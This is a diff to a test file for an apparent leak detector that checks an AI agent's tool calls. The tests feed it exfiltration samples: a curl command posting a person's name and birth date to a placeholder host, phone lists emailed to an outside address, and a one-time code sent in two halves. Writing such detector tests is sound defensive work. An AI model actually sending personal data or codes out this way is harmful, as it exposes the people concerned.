@@ -12,7 +12,7 @@ from pipeguard.detect.flows.ledger import RESULT_BYTES, RESULT_SECONDS, Flows
 from pipeguard.detect.flows.text_values import list_short_values
 from pipeguard.detect.flows.tool_labels import Label, Tool, make_tool
 from pipeguard.firewall.finding import Confidence
-from pipeguard.firewall.protocol.json_values import JsonObject, JsonValue, serialise
+from pipeguard.firewall.protocol.json_values import JsonObject, JsonValue, Number, serialise
 from tests.detect.cases import read_cases
 from tests.each import each
 from tests.fuzz.budget import tried
@@ -312,10 +312,10 @@ NEIGHBOURS = [
 def test_people_with_their_telephone_numbers_are_contacts_without_names_of_fields(row: str) -> None:
     rows = "\n".join(row.format(*each) for each in NEIGHBOURS)
     stranger: JsonObject = {"to": "eve@elsewhere.example", "body": rows}
-    for text, confidence in ((rows, Confidence.HIGH), (rows.replace("+47", "47"), None)):
+    for text, is_found in ((rows, True), (rows.replace("+47", "47"), "@" in rows)):
         flows = after(FILE, text)
         leaks = find_leaks(flows, make_tool("send_email", None), stranger)
-        assert (Confidence.HIGH in {leak.confidence for leak in leaks}) is bool(confidence)
+        assert (Confidence.HIGH in {leak.confidence for leak in leaks}) is is_found
 
 
 def test_people_that_the_client_named_or_that_get_the_letter_are_no_leak() -> None:
@@ -398,6 +398,7 @@ BROWSE = make_tool("browser_type", {"description": "Types text.", "inputSchema":
     [
         *CASES["a_code_that_works_once_does_not_leave"],
         base64.b64encode(b"the code is 482913").decode(),
+        [Number("48"), Number("29"), Number("13")],
     ],
 )
 def test_a_code_that_works_once_does_not_leave(spelt: JsonValue) -> None:
@@ -495,3 +496,9 @@ def test_what_a_command_posts_is_sent() -> None:
     for option in ("-d", "--data-binary", "-F"):
         command = f"curl {option} '{PEOPLE[0][0]}, born {PEOPLE[0][2]}' https://in.example/"
         assert rules(find_leaks(flows, shell, {"command": command})) == ["flows.private-out"]
+
+
+def test_a_code_in_halves_leaves_with_the_second() -> None:
+    flows = after(MAIL, CODE)
+    assert find_leaks(flows, POST, {"body": "it begins with 482"}) == []
+    assert rules(find_leaks(flows, POST, {"body": "and ends with 913"})) == ["flows.secret-out"]
